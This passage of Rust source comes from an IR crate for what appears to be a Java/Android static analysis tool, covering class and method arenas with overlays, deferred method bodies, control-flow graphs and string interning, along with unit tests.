            return &mut self.classes[i - off];
        }
        &mut self.classes[i]
    }

    /// Mutable access to a method, copying a base method into a private
    /// override slot on first touch.
    fn method_mut(&mut self, id: MethodId) -> &mut Method {
        let i = id.index();
        if let Some(base) = &self.base {
            if i < base.methods.len() {
                return self
                    .method_overrides
                    .entry(i as u32)
                    .or_insert_with(|| base.methods[i].clone());
            }
            let off = base.methods.len();
            return &mut self.methods[i - off];
        }
        &mut self.methods[i]
    }

    fn lookup_class_sym(&self, sym: Symbol) -> Option<ClassId> {
        if let Some(base) = &self.base {
            if let Some(&id) = base.class_by_name.get(&sym) {
                return Some(id);
            }
        }
        self.class_by_name.get(&sym).copied()
    }

    // ----- symbols ------------------------------------------------------

    /// Interns a string.
    pub fn intern(&mut self, s: &str) -> Symbol {
        self.interner.intern(s)
    }

    /// Resolves a symbol to its string.
    pub fn str(&self, sym: Symbol) -> &str {
        self.interner.resolve(sym)
    }

    /// Looks up a symbol without interning.
    pub fn lookup_symbol(&self, s: &str) -> Option<Symbol> {
        self.interner.get(s)
    }

    // ----- classes ------------------------------------------------------

    /// Returns the id for `name`, creating a phantom class if it does not
    /// exist yet.
    pub fn class_id(&mut self, name: &str) -> ClassId {
        let sym = self.interner.intern(name);
        if let Some(id) = self.lookup_class_sym(sym) {
            return id;
        }
        let id = ClassId::from_index(self.base_class_len() + self.classes.len());
        self.classes.push(Class {
            id,
            name: sym,
            superclass: None,
            interfaces: Vec::new(),
            fields: Vec::new(),
            methods: Vec::new(),
            method_by_subsig: HashMap::new(),
            field_by_name: HashMap::new(),
            is_interface: false,
            is_abstract: false,
            is_declared: false,
        });
        self.class_by_name.insert(sym, id);
        id
    }

    /// Declares (or completes a phantom) class with the given superclass
    /// and interfaces.
    ///
    /// # Panics
    ///
    /// Panics if the class was already declared.
    pub fn declare_class(
        &mut self,
        name: &str,
        superclass: Option<&str>,
        interfaces: &[&str],
    ) -> ClassId {
        let id = self.class_id(name);
        let superclass = superclass.map(|s| self.class_id(s));
        let interfaces: Vec<ClassId> = interfaces.iter().map(|s| self.class_id(s)).collect();
        let c = self.class_mut(id);
        assert!(!c.is_declared, "class {name} declared twice");
        c.superclass = superclass;
        c.interfaces = interfaces;
        c.is_declared = true;
        id
    }

    /// Declares an interface.
    ///
    /// # Panics
    ///
    /// Panics if the interface was already declared.
    pub fn declare_interface(&mut self, name: &str, extends: &[&str]) -> ClassId {
        let id = self.declare_class(name, None, extends);
        self.class_mut(id).is_interface = true;
        id
    }

    /// Marks a class as abstract.
    pub fn set_abstract(&mut self, class: ClassId, is_abstract: bool) {
        self.class_mut(class).is_abstract = is_abstract;
    }

    /// A class by id.
    pub fn class(&self, id: ClassId) -> &Class {
        let i = id.index();
        if let Some(base) = &self.base {
            if i < base.classes.len() {
                if !self.class_overrides.is_empty() {
                    if let Some(c) = self.class_overrides.get(&(i as u32)) {
                        return c;
                    }
                }
                return &base.classes[i];
            }
            return &self.classes[i - base.classes.len()];
        }
        &self.classes[i]
    }

    /// Looks up a class by name without creating a phantom.
    pub fn find_class(&self, name: &str) -> Option<ClassId> {
        let sym = self.interner.get(name)?;
        self.lookup_class_sym(sym)
    }

    /// The fully qualified name of a class.
    pub fn class_name(&self, id: ClassId) -> &str {
        self.str(self.class(id).name)
    }

    /// Iterates all classes (declared and phantom).
    pub fn classes(&self) -> impl Iterator<Item = &Class> {
        (0..self.class_count()).map(move |i| self.class(ClassId::from_index(i)))
    }

    /// Number of classes (including phantoms).
    pub fn class_count(&self) -> usize {
        self.base_class_len() + self.classes.len()
    }

    /// A `Type::Ref` for the named class (interning it as needed).
    pub fn ref_type(&mut self, name: &str) -> Type {
        Type::Ref(self.class_id(name))
    }

    /// Walks the superclass chain starting at (and including) `class`.
    pub fn supers(&self, class: ClassId) -> Supers<'_> {
        Supers { program: self, cur: Some(class) }
    }

    /// Returns `true` if `sub` equals `sup` or transitively extends /
    /// implements it.
    pub fn is_subtype_of(&self, sub: ClassId, sup: ClassId) -> bool {
        let mut stack = vec![sub];
        let mut seen = std::collections::HashSet::new();
        while let Some(c) = stack.pop() {
            if c == sup {
                return true;
            }
            if !seen.insert(c) {
                continue;
            }
            let cd = self.class(c);
            if let Some(s) = cd.superclass {
                stack.push(s);
            }
            stack.extend(cd.interfaces.iter().copied());
        }
        false
    }

    // ----- fields -------------------------------------------------------

    /// Declares a field on `class`.
    ///
    /// # Panics
    ///
    /// Panics if a field of that name already exists on the class.
    pub fn declare_field(&mut self, class: ClassId, name: &str, ty: Type, is_static: bool) -> FieldId {
        let sym = self.interner.intern(name);
        let id = FieldId::from_index(self.base_field_len() + self.fields.len());
        let c = self.class_mut(class);
        assert!(
            !c.field_by_name.contains_key(&sym),
            "field declared twice on class"
        );
        c.fields.push(id);
        c.field_by_name.insert(sym, id);
        self.fields.push(Field { id, class, name: sym, ty, is_static });
        id
    }

    /// A field by id.
    pub fn field(&self, id: FieldId) -> &Field {
        let i = id.index();
        if let Some(base) = &self.base {
            if i < base.fields.len() {
                return &base.fields[i];
            }
            return &self.fields[i - base.fields.len()];
        }
        &self.fields[i]
    }

    /// Resolves a field by name on `class`, walking up the superclass
    /// chain. Creates nothing.
    pub fn resolve_field(&self, class: ClassId, name: Symbol) -> Option<FieldId> {
        for c in self.supers(class) {
            if let Some(f) = self.class(c).field_by_name(name) {
                return Some(f);
            }
        }
        None
    }

    /// Iterates all fields in declaration (arena) order.
    pub fn fields(&self) -> impl Iterator<Item = &Field> {
        (0..self.field_count()).map(move |i| self.field(FieldId::from_index(i)))
    }

    /// Number of fields.
    pub fn field_count(&self) -> usize {
        self.base_field_len() + self.fields.len()
    }

    // ----- methods ------------------------------------------------------

    /// Declares a method on `class`. Bodies are attached separately via
    /// [`Program::set_body`] (the [`crate::MethodBuilder`] does both).
    ///
    /// # Panics
    ///
    /// Panics if a method with the same subsignature already exists on
    /// the class.
    pub fn declare_method(
        &mut self,
        class: ClassId,
        name: &str,
        params: Vec<Type>,
        ret: Type,
        is_static: bool,
    ) -> MethodId {
        let name = self.interner.intern(name);
        let subsig = SubSig { name, params, ret };
        let id = MethodId::from_index(self.base_method_len() + self.methods.len());
        let c = self.class_mut(class);
        assert!(
            !c.method_by_subsig.contains_key(&subsig),
            "method declared twice on class"
        );
        c.methods.push(id);
        c.method_by_subsig.insert(subsig.clone(), id);
        self.methods.push(Method {
            id,
            class,
            subsig,
            is_static,
            is_native: false,
            is_abstract: false,
            body: None,
            body_pending: false,
        });
        id
    }

    /// Marks a method native (modeled by explicit rules, never analyzed).
    pub fn set_native(&mut self, method: MethodId, is_native: bool) {
        self.method_mut(method).is_native = is_native;
    }

    /// Marks a method abstract.
    pub fn set_method_abstract(&mut self, method: MethodId, is_abstract: bool) {
        self.method_mut(method).is_abstract = is_abstract;
    }

    /// Attaches a body to a method.
    ///
    /// # Panics
    ///
    /// Panics if the method already has a body (decoded or deferred).
    pub fn set_body(&mut self, method: MethodId, body: Body) {
        let m = self.method_mut(method);
        assert!(m.body.is_none(), "method body set twice");
        assert!(!m.body_pending, "method body already deferred");
        m.body = Some(body);
    }

    // ----- deferred bodies ----------------------------------------------

    /// Registers a deferred body for `method`. The method reports
    /// [`Method::has_body`] from here on, but [`Method::body`] stays
    /// `None` until [`Program::ensure_body`] materializes it.
    ///
    /// # Panics
    ///
    /// Panics if the method already has a decoded or deferred body.
    pub fn defer_body(&mut self, method: MethodId, source: Arc<dyn BodySource>, token: u64) {
        let m = self.method_mut(method);
        assert!(m.body.is_none(), "method body set twice");
        assert!(!m.body_pending, "method body already deferred");
        m.body_pending = true;
        self.pending.insert(method, PendingBody { source, token });
    }

    /// Materializes `method`'s deferred body if it has one. Returns
    /// `true` if a body was decoded by this call.
    ///
    /// Installation is atomic: the pending registration is cleared only
    /// after the source returns a complete body, so a panicking decode
    /// (or an aborted job unwinding mid-call) never leaves a
    /// partially-materialized body behind — the method simply stays
    /// pending.
    ///
    /// # Panics
    ///
    /// Panics if the registered [`BodySource`] reports a decode error;
    /// frontends validate body bytes when they defer, so an error here is
    /// a frontend bug, not bad input.
    pub fn ensure_body(&mut self, method: MethodId) -> bool {
        let Some(pending) = self.pending.get(&method).cloned() else {
            return false;
        };
        let body = match pending.source.materialize(self, method, pending.token) {
            Ok(body) => body,
            Err(e) => panic!("deferred body for {}: {e}", self.signature(method)),
        };
        self.pending.remove(&method);
        let m = self.method_mut(method);
        m.body_pending = false;
        m.body = Some(body);
        self.bodies_materialized += 1;
        self.materialization_log.push(method);
        true
    }

    /// The methods materialized by [`Program::ensure_body`], in call
    /// order. Replaying this log through `ensure_body` on a fresh program
    /// loaded from the same inputs reproduces the arena and interner
    /// state exactly (decoding is deterministic), which is what lets a
    /// daemon cache callgraphs across jobs without perturbing ids.
    pub fn materialization_log(&self) -> &[MethodId] {
        &self.materialization_log
    }

    /// Number of deferred bodies not yet materialized.
    pub fn pending_body_count(&self) -> usize {
        self.pending.len()
    }

    /// Returns `true` if any deferred bodies remain unmaterialized.
    pub fn has_pending_bodies(&self) -> bool {
        !self.pending.is_empty()
    }

    /// Number of deferred bodies materialized so far (monotonic counter;
    /// cloning a program clones the counter).
    pub fn bodies_materialized(&self) -> u64 {
        self.bodies_materialized
    }

    /// A method by id.
    pub fn method(&self, id: MethodId) -> &Method {
        let i = id.index();
        if let Some(base) = &self.base {
            if i < base.methods.len() {
                if !self.method_overrides.is_empty() {
                    if let Some(m) = self.method_overrides.get(&(i as u32)) {
                        return m;
                    }
                }
                return &base.methods[i];
            }
            return &self.methods[i - base.methods.len()];
        }
        &self.methods[i]
    }

    /// Iterates all methods.
    pub fn methods(&self) -> impl Iterator<Item = &Method> {
        (0..self.method_count()).map(move |i| self.method(MethodId::from_index(i)))
    }

    /// Number of methods.
    pub fn method_count(&self) -> usize {
        self.base_method_len() + self.methods.len()
    }

    /// Looks up a declared method by class name / method name when the
    /// subsignature is unique by name on that class. Convenience for
    /// tests and harnesses.
    pub fn find_method(&self, class: &str, name: &str) -> Option<MethodId> {
        let cid = self.find_class(class)?;
        let name = self.interner.get(name)?;
        let c = self.class(cid);
        let mut found = None;
        for &m in &c.methods {
            if self.method(m).subsig.name == name {
                if found.is_some() {
                    return None; // ambiguous
                }
                found = Some(m);
            }
        }
        found
    }

    /// Resolves a method reference to a concrete method by walking up
    /// the superclass chain from `MethodRef::class` (the "declared
    /// target" as used for `invokespecial`/`invokestatic` and as the CHA
    /// starting point for virtual dispatch).
    pub fn resolve_method_ref(&self, mref: &MethodRef) -> Option<MethodId> {
        for c in self.supers(mref.class) {
            if let Some(m) = self.class(c).method_by_subsig(&mref.subsig) {
                return Some(m);
            }
            // Also check interfaces for default-style declarations.
            for &i in self.class(c).interfaces() {
                if let Some(m) = self.class(i).method_by_subsig(&mref.subsig) {
                    return Some(m);
                }
            }
        }
        None
    }

    /// A human-readable full signature like
    /// `<com.example.Foo: java.lang.String bar(int)>`.
    pub fn signature(&self, method: MethodId) -> String {
        let m = self.method(method);
        let cls = self.class_name(m.class).to_owned();
        let ret = self.type_name(&m.subsig.ret);
        let name = self.str(m.subsig.name).to_owned();
        let params: Vec<String> = m.subsig.params.iter().map(|t| self.type_name(t)).collect();
        format!("<{}: {} {}({})>", cls, ret, name, params.join(","))
    }

    /// Resolves a type to its display name (`int`, `java.lang.String[]`, …).
    pub fn type_name(&self, ty: &Type) -> String {
        match ty {
            Type::Ref(c) => self.class_name(*c).to_owned(),
            Type::Array(e) => format!("{}[]", self.type_name(e)),
            other => other.to_string(),
        }
    }
}

/// Iterator over a class and its transitive superclasses.
pub struct Supers<'p> {
    program: &'p Program,
    cur: Option<ClassId>,
}

impl Iterator for Supers<'_> {
    type Item = ClassId;

    fn next(&mut self) -> Option<ClassId> {
        let cur = self.cur?;
        self.cur = self.program.class(cur).superclass();
        Some(cur)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn phantom_then_declare() {
        let mut p = Program::new();
        let id1 = p.class_id("a.B");
        assert!(!p.class(id1).is_declared());
        let id2 = p.declare_class("a.B", Some("java.lang.Object"), &[]);
        assert_eq!(id1, id2);
        assert!(p.class(id1).is_declared());
        assert!(p.class(p.find_class("java.lang.Object").unwrap()).superclass().is_none());
    }

    #[test]
    #[should_panic(expected = "declared twice")]
    fn double_declare_panics() {
        let mut p = Program::new();
        p.declare_class("X", None, &[]);
        p.declare_class("X", None, &[]);
    }

    #[test]
    fn subtype_via_interface() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let i = p.declare_interface("I", &[]);
        let c = p.declare_class("C", Some("java.lang.Object"), &["I"]);
        let d = p.declare_class("D", Some("C"), &[]);
        let obj = p.find_class("java.lang.Object").unwrap();
        assert!(p.is_subtype_of(d, i));
        assert!(p.is_subtype_of(d, obj));
        assert!(p.is_subtype_of(c, c));
        assert!(!p.is_subtype_of(c, d));
    }

    #[test]
    fn field_resolution_walks_supers() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &[]);
        let b = p.declare_class("B", Some("A"), &[]);
        let f = p.declare_field(a, "data", Type::Int, false);
        let name = p.lookup_symbol("data").unwrap();
        assert_eq!(p.resolve_field(b, name), Some(f));
        assert_eq!(p.field(f).class(), a);
    }

    #[test]
    fn method_ref_resolution_walks_supers() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &[]);
        let b = p.declare_class("B", Some("A"), &[]);
        let m = p.declare_method(a, "run", vec![], Type::Void, false);
        let subsig = p.method(m).subsig().clone();
        let mref = MethodRef { class: b, subsig };
        assert_eq!(p.resolve_method_ref(&mref), Some(m));
    }

    #[test]
    fn signature_formatting() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let c = p.declare_class("com.example.Foo", Some("java.lang.Object"), &[]);
        let s = p.ref_type("java.lang.String");
        let m = p.declare_method(c, "bar", vec![Type::Int, s.clone()], s, false);
        assert_eq!(
            p.signature(m),
            "<com.example.Foo: java.lang.String bar(int,java.lang.String)>"
        );
    }

    struct TestSource {
        stmts: Vec<crate::Stmt>,
        fail: bool,
    }

    impl BodySource for TestSource {
        fn materialize(
            &self,
            _program: &mut Program,
            _method: MethodId,
            _token: u64,
        ) -> Result<Body, String> {
            if self.fail {
                return Err("synthetic decode failure".into());
            }
            Ok(Body::new(Vec::new(), self.stmts.clone(), vec![0; self.stmts.len()]))
        }
    }

    #[test]
    fn deferred_body_counts_as_has_body_until_materialized() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        let m = p.declare_method(c, "f", vec![], Type::Void, true);
        let src = Arc::new(TestSource { stmts: vec![crate::Stmt::Return { value: None }], fail: false });
        p.defer_body(m, src, 0);
        assert!(p.method(m).has_body());
        assert!(p.method(m).body_is_pending());
        assert!(p.method(m).body().is_none());
        assert_eq!(p.pending_body_count(), 1);

        assert!(p.ensure_body(m));
        assert!(p.method(m).has_body());
        assert!(!p.method(m).body_is_pending());
        assert_eq!(p.method(m).body().unwrap().stmts().len(), 1);
        assert_eq!(p.pending_body_count(), 0);
        assert_eq!(p.bodies_materialized(), 1);
        assert_eq!(p.materialization_log(), &[m]);

        // Second call is a no-op.
        assert!(!p.ensure_body(m));
        assert_eq!(p.bodies_materialized(), 1);
        assert_eq!(p.materialization_log().len(), 1);
    }

    #[test]
    fn failed_materialization_leaves_method_pending() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        let m = p.declare_method(c, "f", vec![], Type::Void, true);
        p.defer_body(m, Arc::new(TestSource { stmts: vec![], fail: true }), 0);
        let err = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            p.ensure_body(m);
        }));
        assert!(err.is_err());
        // No partially-materialized body: the method is still pending and
        // body-less, exactly as before the attempt.
        assert!(p.method(m).body().is_none());
        assert!(p.method(m).body_is_pending());
        assert_eq!(p.pending_body_count(), 1);
        assert_eq!(p.bodies_materialized(), 0);
        assert!(p.materialization_log().is_empty());
    }

    #[test]
    fn cloned_program_materializes_independently() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        let m = p.declare_method(c, "f", vec![], Type::Void, true);
        let src = Arc::new(TestSource { stmts: vec![crate::Stmt::Return { value: None }], fail: false });
        p.defer_body(m, src, 0);

        let mut clone = p.clone();
        assert!(clone.ensure_body(m));
        // The original is untouched by the clone's materialization.
        assert!(p.method(m).body().is_none());
        assert!(p.method(m).body_is_pending());
        assert_eq!(p.bodies_materialized(), 0);
        assert_eq!(clone.bodies_materialized(), 1);
    }

    #[test]
    fn find_method_is_none_when_ambiguous() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        p.declare_method(c, "f", vec![], Type::Void, false);
        p.declare_method(c, "f", vec![Type::Int], Type::Void, false);
        assert_eq!(p.find_method("C", "f"), None);
    }

    fn frozen_base() -> Arc<ProgramBase> {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let act = p.declare_class("android.app.Activity", Some("java.lang.Object"), &[]);
        let on_create = p.declare_method(act, "onCreate", vec![], Type::Void, false);
        p.set_native(on_create, true);
        p.class_id("android.phantom.Later"); // phantom in the base
        p.freeze()
    }

    #[test]
    fn overlay_ids_continue_base_numbering() {
        let base = frozen_base();
        let n_classes = base.class_count();
        let n_methods = base.method_count();

        // A flat thaw and a cheap overlay must mint identical ids for
        // the same declaration sequence.
        let mut flat = Program::thaw(&base);
        let mut over = Program::overlay(Arc::clone(&base));
        assert!(over.is_overlay());
        for p in [&mut flat, &mut over] {
            let c = p.declare_class("com.app.Main", Some("android.app.Activity"), &[]);
            assert_eq!(c.index(), n_classes);
            let m = p.declare_method(c, "run", vec![], Type::Void, false);
            assert_eq!(m.index(), n_methods);
            assert_eq!(p.class_count(), n_classes + 1);
            assert_eq!(p.method_count(), n_methods + 1);
        }
        assert_eq!(
            flat.find_class("com.app.Main"),
            over.find_class("com.app.Main")
        );
        // Base entities read through the overlay untouched.
        let act = over.find_class("android.app.Activity").unwrap();
        assert_eq!(over.class_name(act), "android.app.Activity");
        assert!(over.class(act).is_declared());
    }

    #[test]
    fn overlay_mutation_of_base_class_is_private() {
        let base = frozen_base();
        let mut over = Program::overlay(Arc::clone(&base));
        // Declaring a base phantom copies it into the overlay's override
        // slot; the shared base stays untouched for sibling overlays.
        let late = over.declare_class("android.phantom.Later", Some("java.lang.Object"), &[]);
        assert!(over.class(late).is_declared());
        assert!((late.index()) < base.class_count(), "declared in place, not re-minted");

        let sibling = Program::overlay(Arc::clone(&base));
        let same = sibling.find_class("android.phantom.Later").unwrap();
        assert_eq!(same, late);
        assert!(!sibling.class(same).is_declared(), "sibling sees the pristine base");
    }

    #[test]
    fn overlay_iterators_cover_base_and_overlay() {
        let base = frozen_base();
        let mut over = Program::overlay(Arc::clone(&base));
        let c = over.declare_class("com.app.Main", Some("java.lang.Object"), &[]);
        over.declare_field(c, "data", Type::Int, false);
        assert_eq!(over.classes().count(), over.class_count());
        assert_eq!(over.methods().count(), over.method_count());
        assert_eq!(over.fields().count(), over.field_count());
        assert!(over.classes().any(|k| over.str(k.name()) == "com.app.Main"));
        assert!(over.classes().any(|k| over.str(k.name()) == "android.app.Activity"));
    }

    #[test]
    #[should_panic(expected = "pending bodies")]
    fn freeze_rejects_pending_bodies() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        let m = p.declare_method(c, "f", vec![], Type::Void, true);
        p.defer_body(m, Arc::new(TestSource { stmts: vec![], fail: false }), 0);
        let _ = p.freeze();
    }

    #[test]
    fn overlay_deferred_body_stays_job_local() {
        let base = frozen_base();
        let mut over = Program::overlay(Arc::clone(&base));
        let c = over.declare_class("com.app.Main", Some("java.lang.Object"), &[]);
        let m = over.declare_method(c, "f", vec![], Type::Void, true);
        over.defer_body(
            m,
            Arc::new(TestSource { stmts: vec![crate::Stmt::Return { value: None }], fail: false }),
            0,
        );
        let mut clone = over.clone(); // cheap: shares the base Arc
        assert!(clone.ensure_body(m));
        assert!(over.method(m).body().is_none());
        assert_eq!(clone.materialization_log(), &[m]);
        assert!(over.materialization_log().is_empty());
    }
}
