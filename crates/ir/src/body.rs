//! Method bodies and statement-level control-flow graphs.

use crate::class::MethodId;
use crate::stmt::Stmt;
use crate::types::Type;
use std::fmt;

/// Index of a statement within its [`Body`].
pub type StmtIdx = usize;

/// A program-wide reference to a single statement: method plus index.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct StmtRef {
    /// The containing method.
    pub method: MethodId,
    /// The statement index within that method's body.
    pub idx: StmtIdx,
}

impl StmtRef {
    /// Creates a statement reference.
    pub fn new(method: MethodId, idx: StmtIdx) -> Self {
        Self { method, idx }
    }
}

impl fmt::Debug for StmtRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:?}@{}", self.method, self.idx)
    }
}

/// A declared local variable.
#[derive(Clone, Debug)]
pub struct LocalDecl {
    /// Variable name (for diagnostics and pretty printing).
    pub name: String,
    /// Declared type.
    pub ty: Type,
}

/// A method body: locals, a flat statement vector and its CFG.
#[derive(Clone, Debug)]
pub struct Body {
    pub(crate) locals: Vec<LocalDecl>,
    pub(crate) stmts: Vec<Stmt>,
    /// Source line per statement (0 = unknown), parallel to `stmts`.
    pub(crate) lines: Vec<u32>,
    pub(crate) cfg: Cfg,
}

impl Body {
    /// Builds a body, computing the CFG eagerly.
    ///
    /// # Panics
    ///
    /// Panics if any branch target is out of range.
    pub fn new(locals: Vec<LocalDecl>, stmts: Vec<Stmt>, lines: Vec<u32>) -> Self {
        assert_eq!(stmts.len(), lines.len(), "lines must parallel stmts");
        let cfg = Cfg::build(&stmts);
        Self { locals, stmts, lines, cfg }
    }

    /// The statements in program order.
    pub fn stmts(&self) -> &[Stmt] {
        &self.stmts
    }

    /// A single statement.
    ///
    /// # Panics
    ///
    /// Panics if `idx` is out of range.
    pub fn stmt(&self, idx: StmtIdx) -> &Stmt {
        &self.stmts[idx]
    }

    /// Source line of a statement (0 if unknown).
    pub fn line(&self, idx: StmtIdx) -> u32 {
        self.lines.get(idx).copied().unwrap_or(0)
    }

    /// Declared locals (including parameter slots).
    pub fn locals(&self) -> &[LocalDecl] {
        &self.locals
    }

    /// The control-flow graph.
    pub fn cfg(&self) -> &Cfg {
        &self.cfg
    }

    /// Indices of all exit statements (returns and throws).
    pub fn exits(&self) -> impl Iterator<Item = StmtIdx> + '_ {
        self.stmts
            .iter()
            .enumerate()
            .filter(|(_, s)| s.is_exit())
            .map(|(i, _)| i)
    }

    /// The entry statement index (always 0 for non-empty bodies).
    pub fn entry(&self) -> StmtIdx {
        0
    }

    /// Number of statements.
    pub fn len(&self) -> usize {
        self.stmts.len()
    }

    /// Returns `true` if the body has no statements.
    pub fn is_empty(&self) -> bool {
        self.stmts.is_empty()
    }
}

/// Statement-level control-flow graph: successor and predecessor indices
/// per statement.
#[derive(Clone, Debug, Default)]
pub struct Cfg {
    succs: Vec<Vec<StmtIdx>>,
    preds: Vec<Vec<StmtIdx>>,
}

impl Cfg {
    /// Computes the CFG from a statement vector.
    ///
    /// # Panics
    ///
    /// Panics if a branch target is out of range.
    pub fn build(stmts: &[Stmt]) -> Self {
        let n = stmts.len();
        let mut succs: Vec<Vec<StmtIdx>> = vec![Vec::new(); n];
        let mut preds: Vec<Vec<StmtIdx>> = vec![Vec::new(); n];
        for (i, s) in stmts.iter().enumerate() {
            let mut out: Vec<StmtIdx> = Vec::new();
            match s {
                Stmt::If { target, .. } => {
                    assert!(*target < n, "branch target {target} out of range");
                    if i + 1 < n {
                        out.push(i + 1);
                    }
                    if !out.contains(target) {
                        out.push(*target);
                    }
                }
                Stmt::Goto { target } => {
                    assert!(*target < n, "goto target {target} out of range");
                    out.push(*target);
                }
                Stmt::Return { .. } | Stmt::Throw { .. } => {}
                _ => {
                    if i + 1 < n {
                        out.push(i + 1);
                    }
                }
            }
            for &t in &out {
                preds[t].push(i);
            }
            succs[i] = out;
        }
        Self { succs, preds }
    }

    /// Successor statement indices.
    pub fn succs(&self, idx: StmtIdx) -> &[StmtIdx] {
        &self.succs[idx]
    }

    /// Predecessor statement indices.
    pub fn preds(&self, idx: StmtIdx) -> &[StmtIdx] {
        &self.preds[idx]
    }

    /// Number of statements covered.
    pub fn len(&self) -> usize {
        self.succs.len()
    }

    /// Returns `true` for an empty CFG.
    pub fn is_empty(&self) -> bool {
        self.succs.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stmt::{Cond, Stmt};

    fn nop() -> Stmt {
        Stmt::Nop
    }

    #[test]
    fn straight_line_cfg() {
        let stmts = vec![nop(), nop(), Stmt::Return { value: None }];
        let cfg = Cfg::build(&stmts);
        assert_eq!(cfg.succs(0), &[1]);
        assert_eq!(cfg.succs(1), &[2]);
        assert!(cfg.succs(2).is_empty());
        assert_eq!(cfg.preds(2), &[1]);
        assert!(cfg.preds(0).is_empty());
    }

    #[test]
    fn branch_has_two_successors() {
        let stmts = vec![
            Stmt::If { cond: Cond::Opaque, target: 2 },
            nop(),
            Stmt::Return { value: None },
        ];
        let cfg = Cfg::build(&stmts);
        assert_eq!(cfg.succs(0), &[1, 2]);
        let mut preds2 = cfg.preds(2).to_vec();
        preds2.sort_unstable();
        assert_eq!(preds2, vec![0, 1]);
    }

    #[test]
    fn goto_skips_fallthrough() {
        let stmts = vec![Stmt::Goto { target: 2 }, nop(), Stmt::Return { value: None }];
        let cfg = Cfg::build(&stmts);
        assert_eq!(cfg.succs(0), &[2]);
        assert!(cfg.preds(1).is_empty());
    }

    #[test]
    fn self_loop_branch_is_deduped() {
        let stmts = vec![Stmt::If { cond: Cond::Opaque, target: 1 }, Stmt::Return { value: None }];
        let cfg = Cfg::build(&stmts);
        assert_eq!(cfg.succs(0), &[1]);
    }

    #[test]
    #[should_panic(expected = "out of range")]
    fn invalid_target_panics() {
        Cfg::build(&[Stmt::Goto { target: 7 }]);
    }

    #[test]
    fn body_exits() {
        let b = Body::new(
            vec![],
            vec![nop(), Stmt::Return { value: None }, Stmt::Throw {
                value: crate::stmt::Operand::Const(crate::stmt::Constant::Null),
            }],
            vec![0, 0, 0],
        );
        let exits: Vec<_> = b.exits().collect();
        assert_eq!(exits, vec![1, 2]);
        assert_eq!(b.entry(), 0);
    }
}
