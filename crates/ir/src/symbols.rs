//! String interning.

use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

/// An interned string. Cheap to copy, compare and hash.
///
/// Symbols are only meaningful relative to the [`Interner`] (and thus the
/// [`crate::Program`]) that produced them.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Symbol(u32);

impl Symbol {
    /// Returns the raw index of this symbol in its interner.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

impl fmt::Debug for Symbol {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "sym#{}", self.0)
    }
}

/// A simple append-only string interner.
///
/// An interner may be layered over a frozen base interner (see
/// [`Interner::with_base`]): symbols below `base_len` resolve in the
/// shared base, new strings append to the overlay. Symbol numbering is
/// continuous across the boundary, so symbols are indistinguishable from
/// those a flat interner built in the same order would produce.
#[derive(Default, Debug, Clone)]
pub struct Interner {
    base: Option<Arc<Interner>>,
    base_len: u32,
    strings: Vec<Box<str>>,
    map: HashMap<Box<str>, Symbol>,
}

impl Interner {
    /// Creates an empty interner.
    pub fn new() -> Self {
        Self::default()
    }

    /// Creates an overlay interner that resolves existing symbols in
    /// `base` and appends new strings locally, numbering them after the
    /// base's symbols.
    ///
    /// # Panics
    ///
    /// Panics if `base` is itself an overlay (only one layer is
    /// supported).
    pub fn with_base(base: Arc<Interner>) -> Self {
        assert!(base.base.is_none(), "interner base must be flat");
        let base_len = u32::try_from(base.strings.len()).expect("too many symbols");
        Interner { base: Some(base), base_len, strings: Vec::new(), map: HashMap::new() }
    }

    /// Interns `s`, returning the existing symbol if already present.
    pub fn intern(&mut self, s: &str) -> Symbol {
        if let Some(base) = &self.base {
            if let Some(&sym) = base.map.get(s) {
                return sym;
            }
        }
        if let Some(&sym) = self.map.get(s) {
            return sym;
        }
        let raw = u64::from(self.base_len) + self.strings.len() as u64;
        let sym = Symbol(u32::try_from(raw).expect("too many symbols"));
        self.strings.push(s.into());
        self.map.insert(s.into(), sym);
        sym
    }

    /// Looks up an already-interned string without inserting.
    pub fn get(&self, s: &str) -> Option<Symbol> {
        if let Some(base) = &self.base {
            if let Some(&sym) = base.map.get(s) {
                return Some(sym);
            }
        }
        self.map.get(s).copied()
    }

    /// Resolves a symbol back to its string.
    ///
    /// # Panics
    ///
    /// Panics if `sym` was produced by a different interner and is out of
    /// range for this one.
    pub fn resolve(&self, sym: Symbol) -> &str {
        let i = sym.index();
        if i < self.base_len as usize {
            return self.base.as_ref().expect("base symbol without base").resolve(sym);
        }
        &self.strings[i - self.base_len as usize]
    }

    /// Number of interned strings (base plus overlay).
    pub fn len(&self) -> usize {
        self.base_len as usize + self.strings.len()
    }

    /// Returns `true` if nothing has been interned.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_dedupes() {
        let mut i = Interner::new();
        let a = i.intern("hello");
        let b = i.intern("world");
        let c = i.intern("hello");
        assert_eq!(a, c);
        assert_ne!(a, b);
        assert_eq!(i.resolve(a), "hello");
        assert_eq!(i.resolve(b), "world");
        assert_eq!(i.len(), 2);
    }

    #[test]
    fn get_does_not_insert() {
        let mut i = Interner::new();
        assert!(i.get("x").is_none());
        let s = i.intern("x");
        assert_eq!(i.get("x"), Some(s));
        assert_eq!(i.len(), 1);
    }

    #[test]
